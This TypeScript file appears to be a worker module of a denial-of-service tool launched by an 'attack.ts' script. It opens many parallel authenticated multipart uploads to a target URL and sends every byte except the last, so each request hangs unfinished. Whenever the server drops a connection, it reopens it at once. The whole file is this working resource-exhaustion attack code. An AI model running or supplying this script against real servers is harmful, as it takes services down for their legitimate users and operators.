// Sends uploads except for their last byte, and repeats each one after the server closes it. Started by attack.ts with
// its options.
import { request } from "node:http";

export type UploadOptions = { url: string; token: string; uploads: number; bytes: number };

const { url, token, uploads, bytes } = JSON.parse(process.argv[2] ?? "") as UploadOptions;
const head = '--x\r\ncontent-disposition: form-data; name="File"; filename="a.jpg"\r\n\r\n';
const content = Buffer.alloc(bytes);
const headers = {
  authorization: `Bearer ${token}`,
  "content-type": "multipart/form-data; boundary=x",
  "content-length": head.length + bytes + 1,
};

function openUpload(): void {
  const call = request(url, { method: "POST", headers, agent: false }, (answer) => answer.resume());
  call.once("error", () => {}).once("close", openUpload);
  call.write(head);
  call.write(content);
}

for (let nth = 0; nth < uploads; nth += 1) openUpload();
